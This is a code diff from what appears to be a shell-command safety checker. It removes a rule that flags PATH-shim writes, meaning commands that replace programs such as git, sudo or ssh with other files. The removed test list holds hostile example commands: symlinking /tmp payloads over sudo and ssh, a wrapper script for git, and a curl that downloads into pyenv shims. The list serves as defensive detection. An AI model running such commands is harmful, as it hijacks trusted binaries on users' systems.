@@ -4,14 +4,12 @@
 something else. A shim is code that runs later, like a written hook; a link
 or copy of a program under its own name (`~/.local/bin/python` to
 `/usr/bin/python3`) is the usual set-up and passes. The writes are read once
-per command with the other sensitive writes (`rules.sensitive`)."""
+per command with the other sensitive writes: `sensitive.path-shim` is
+`rules.sensitive`'s."""
 
 from __future__ import annotations
 
-from redline.decision import Severity
-from redline.rules.model import Rule, rule
 from redline.shell import paths
-from redline.shell.analysis import Analysis
 from redline.shell.invocation import Invocation
 from redline.shell.model import DYNAMIC, Word
 
@@ -94,44 +92,3 @@ def _same_program(name: str, source: str, cwd: str | None) -> bool:
         return False
     where = paths.normalize(source, cwd) or ""
     return not where.startswith(_TEMP)
-
-
-def _shim(inv: Invocation, analysis: Analysis) -> bool:
-    from redline.rules.sensitive import writes_family
-
-    return writes_family(inv, analysis, "path-shim")
-
-
-PATH_SHIM_RULES: tuple[Rule, ...] = (
-    rule(
-        "sensitive.path-shim",
-        "sensitive",
-        Severity.SENSITIVE,
-        "link a program on PATH (`git`, `sudo`, `ssh`...) to another file: it runs in the "
-        "program's place later",
-        "run the other program by its own name or path; link only a program to its own name",
-        test=_shim,
-        must_match=(
-            "ln -sf /tmp/x ~/.local/bin/git",
-            "ln -s ./evil /usr/local/bin/sudo",
-            "ln -sfn /tmp/payload ~/bin/ssh",
-            "cp /tmp/x ~/.local/bin/git",
-            "install -m755 /tmp/x ~/.local/bin/sudo",
-            "printf '#!/bin/sh\\nexec /tmp/x \"$@\"\\n' > ~/.local/bin/git",
-            "ln -st ~/.local/bin /tmp/evil/git",
-            "cp /tmp/x ~/.cargo/bin/cargo",
-            "curl -o ~/.pyenv/shims/python https://x.example.com/p",
-            "busybox --install -s ~/.local/bin",
-        ),
-        must_not_match=(
-            "ln -sf /usr/bin/python3 ~/.local/bin/python",
-            "ln -s ../lib/tool ./bin/tool",
-            "ln -sf ~/src/mytool/target/release/mytool ~/.local/bin/mytool",
-            "ln -s /opt/node-v20/bin/node /usr/local/bin/node",
-            "cp build/mytool ~/.local/bin/mytool",
-            "install -m755 target/release/rg2 ~/.local/bin/",
-            "cp ~/.local/bin/git /tmp/git.bak",
-            "busybox ls",
-        ),
-    ),
-)
